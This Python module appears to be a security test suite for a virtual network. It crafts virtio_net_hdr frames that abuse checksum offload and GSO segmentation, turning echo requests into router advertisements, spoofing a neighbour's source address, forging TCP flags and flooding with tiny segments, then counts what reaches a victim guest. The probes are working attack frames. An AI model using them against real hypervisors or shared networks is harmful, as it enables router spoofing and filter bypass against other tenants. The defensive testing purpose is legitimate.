"""Attacks by what a sender leaves for devices to do, in the virtio_net_hdr before a frame (linux/virtio_net.h): checksums that are left
open at a place of his choice, which the kernel writes after all rules, and bundles that are cut into pieces of a size of his choice.

From a guest's own interface (PACKET_VNET_HDR) at both attackers, and from a tap, as a VM sends. The victim's port computes no checksums
and cuts nothing, like a VM's that takes neither or a network card below VXLAN: what arrives is what was made of it."""
import contextlib
import fcntl
import json
import os
import struct
import time

from frames import ethernet, ipv6
from scene import eventually
from wire import Sender, address_bytes, checksum, in_namespace, mac_bytes

ALL_NODES = ("33:33:00:00:00:01", "ff02::1")
NOTE = b"offloads"
_NEEDS_CSUM, _TCPV6 = 1, 4


class Tap:
    """The end of a tap that a VM would have, with a virtio_net_hdr before each frame."""

    def __init__(self, host, device):
        def make():
            descriptor = os.open("/dev/net/tun", os.O_RDWR | os.O_NONBLOCK)
            # TUNSETIFF; IFF_TAP, IFF_NO_PI, IFF_VNET_HDR
            fcntl.ioctl(descriptor, 0x400454CA, struct.pack("16sH22x", device.encode(), 0x0002 | 0x1000 | 0x4000))
            return descriptor

        self.descriptor = in_namespace(host.path, make)
        state = lambda: json.loads(host.run("bridge", "-j", "link", "show", "dev", device))[0].get("state")
        eventually(lambda: state() == "forwarding", 5, f"{device} forwarding")

    def send(self, frame):
        os.write(self.descriptor, frame)

    def close(self):
        os.close(self.descriptor)


class Speaker:
    """Whoever sends: by what, and what it may send from."""

    def __init__(self, name, mac, link_local, port):
        self.name, self.mac, self.link_local, self.port = name, mac, link_local, port


@contextlib.contextmanager
def speakers(scene):
    """Both attackers at their interfaces, and a VM's tap beside the victim."""
    found = []
    try:
        for guest in (scene.guests[name] for name in scene.attackers):
            sender = Sender(guest.path, "eth0")
            sender.socket.setsockopt(263, 15, 1)  # SOL_PACKET, PACKET_VNET_HDR
            found.append(Speaker(guest.name, guest.mac, guest.link_local, sender))
        device, mac = scene.tap
        found.append(Speaker("tap", mac, _link_local(mac), Tap(scene.hosts["h1"], device)))
        yield found
    finally:
        for speaker in found:
            speaker.port.close()


@contextlib.contextmanager
def nothing_offloaded(scene):
    """The victim's port gives its guest whole frames with their checksums."""
    victim, h1 = scene.guests["victim"], scene.hosts["h1"]
    index = json.loads(victim.run("ip", "-j", "link", "show", "eth0"))[0]["link_index"]
    port = next(d["ifname"] for d in json.loads(h1.run("ip", "-j", "link")) if d["ifindex"] == index)
    h1.run("ethtool", "-K", port, "tx", "off", "tso", "off", "gso", "off")
    try:
        yield
    finally:
        h1.run("ethtool", "-K", port, "tx", "on", "tso", "on", "gso", "on")


def _link_local(mac):
    b = bytearray(mac_bytes(mac))
    b[0] ^= 2
    return "fe80::%02x%02x:%02xff:fe%02x:%02x%02x" % tuple(b)


def left_open(mac, source, following, limit, body, *, start, place, value, filler=None):
    """A frame to all nodes whose checksum is left open: the kernel sums up from `start` on and writes at `place`. A filler (behind the
    body, or at its place in the frame) makes that `value`."""
    frame = bytearray(ethernet(ALL_NODES[0], mac, ipv6(source, ALL_NODES[1], following, body + NOTE + (b"" if filler else bytes(2)), limit)))
    filler = filler or len(frame) - 2
    # `checksum` adds the length to the sum.
    summed = bytes(frame[start:])
    frame[filler:filler + 2] = struct.pack("!H", (checksum(b"", b"", 0, summed) + len(summed) - value) % 0xFFFF)
    return struct.pack("=BBHHHH", _NEEDS_CSUM, 0, 0, 0, start, place - start) + bytes(frame)


def _message_type(speaker, scene):
    """An echo request becomes a router advertisement."""
    yield left_open(speaker.mac, speaker.link_local, 58, 255, b"\x80\0" + _advertisement(), start=54, place=54, value=0x8600)


def _next_header(speaker, scene):
    """UDP with hop limit 64 becomes ICMPv6 with 255: a router advertisement."""
    yield left_open(speaker.mac, speaker.link_local, 17, 64, b"\x86\0" + _advertisement(), start=20, place=20, value=58 << 8 | 255)


def _port(speaker, scene):
    """UDP to port 7 becomes an answer of a DHCPv6 server."""
    body = struct.pack("!HHHH", 547, 7, 22, 0) + b"\x02\0\0\1"
    yield left_open(speaker.mac, speaker.link_local, 17, 64, body, start=56, place=56, value=546)


def _source(speaker, scene):
    """The end of the source becomes that of a neighbour's."""
    neighbour = struct.unpack("!H", address_bytes(scene.guests["alice"].link_local)[14:])[0]
    yield left_open(speaker.mac, speaker.link_local, 17, 64, struct.pack("!HHHH", 7, 7, 18, 0), start=36, place=36, value=neighbour)


def _tcp_flags(speaker, scene):
    """A SYN becomes an answer: what a stateful policy of the receiver takes for another packet."""
    body = struct.pack("!HHIIBBHHH", 7, 7, 1, 1, 0x50, 0x02, 1000, 0, 0)
    yield left_open(speaker.mac, speaker.link_local, 6, 64, body, start=66, place=66, value=0x5012)


def _advertisement():
    """A router advertisement behind its type and code (RFC 4861 section 4.2)."""
    return bytes(2) + struct.pack("!BBH", 64, 0, 1800) + bytes(8)


def _bundle(speaker, target, mac, following, header, kind, size, place):
    frame = ethernet(mac, speaker.mac, ipv6(speaker.link_local, target, following, header + NOTE * 500, 64))
    return struct.pack("=BBHHHH", _NEEDS_CSUM, kind, 54 + len(header), size, 54, place) + frame


_TCP = struct.pack("!HHIIBBHHH", 7, 7, 1, 1, 0x50, 0x10, 1000, 0, 0)


def _small_pieces(speaker, scene):
    """4,000 bytes of TCP to be cut into pieces of 8: one packet for any limit, and 500 for everybody else."""
    victim = scene.guests["victim"]
    yield _bundle(speaker, victim.link_local, victim.mac, 6, _TCP, _TCPV6, 8, 16)


def _tcp_to_all(speaker, scene):
    """The same in pieces of 1,000, to a group, with which nobody speaks TCP."""
    yield _bundle(speaker, ALL_NODES[1], ALL_NODES[0], 6, _TCP, _TCPV6, 1000, 16)


def _probe(frames):
    def probe(scene, guarded):
        """How many frames reached the victim, by sender; unguarded only those that are not what was sent count as a success."""
        victim, result = scene.guests["victim"], {}
        with nothing_offloaded(scene), speakers(scene) as all_speakers:
            for speaker in all_speakers:
                victim.capture.discard()
                sent = list(frames(speaker, scene))
                for frame in sent:
                    speaker.port.send(frame)
                time.sleep(0.1)
                came = [frame for frame in victim.capture.take()[0] if NOTE in frame]
                result[speaker.name] = sum(guarded or all(frame != one[10:] for one in sent) for frame in came)
        return result

    return probe


ALL = [
    ("checksum left open: echo request to router advertisement", _probe(_message_type)),
    ("checksum left open: UDP to ICMPv6", _probe(_next_header)),
    ("checksum left open: UDP's port", _probe(_port)),
    ("checksum left open: the source", _probe(_source)),
    ("checksum left open: TCP's flags", _probe(_tcp_flags)),
    ("bundle in pieces of 8 bytes", _probe(_small_pieces)),
    ("bundle of TCP to all nodes", _probe(_tcp_to_all)),
]
